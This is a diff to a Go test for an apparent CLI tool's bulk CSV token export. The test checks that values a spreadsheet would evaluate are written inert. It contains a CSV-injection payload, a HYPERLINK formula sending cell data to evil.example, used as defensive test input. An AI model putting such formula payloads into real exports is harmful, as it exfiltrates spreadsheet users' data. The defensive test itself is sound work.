@@ -9,15 +9,15 @@ import (
 	"testing"
 	"time"
 
-	"github.com/axero-cli/axero/client/axerotest"
 	"github.com/axero-cli/axero/internal/bulk"
+	"github.com/axero-cli/axero/internal/emulator"
 )
 
 // TestCSVFilesNeutraliseFormulas: a token name and a user that a
 // spreadsheet would evaluate are written inert to NEW and to the failed
 // file, and read back exactly, so that both files can be renewed in turn.
 func TestCSVFilesNeutraliseFormulas(t *testing.T) {
-	srv := axerotest.NewTest(t, axerotest.Options{Users: 2})
+	srv := emulator.NewTest(t, emulator.Options{Users: 2})
 	dir := t.TempDir()
 	from, out := filepath.Join(dir, "old.csv"), filepath.Join(dir, "new.csv")
 	const name, user = `=HYPERLINK("http://evil.example/?"&F2)`, "@SUM(1+1)"
@@ -28,7 +28,7 @@ func TestCSVFilesNeutraliseFormulas(t *testing.T) {
 	exp := time.Now().Add(90 * 24 * time.Hour)
 	var old []bulk.Record
 	for i := range 2 {
-		ct, err := srv.MintToken(int64(1001+i), name, &exp, axerotest.AdminID)
+		ct, err := srv.MintToken(int64(1001+i), name, &exp, emulator.AdminID)
 		if err != nil {
 			t.Fatal(err)
 		}
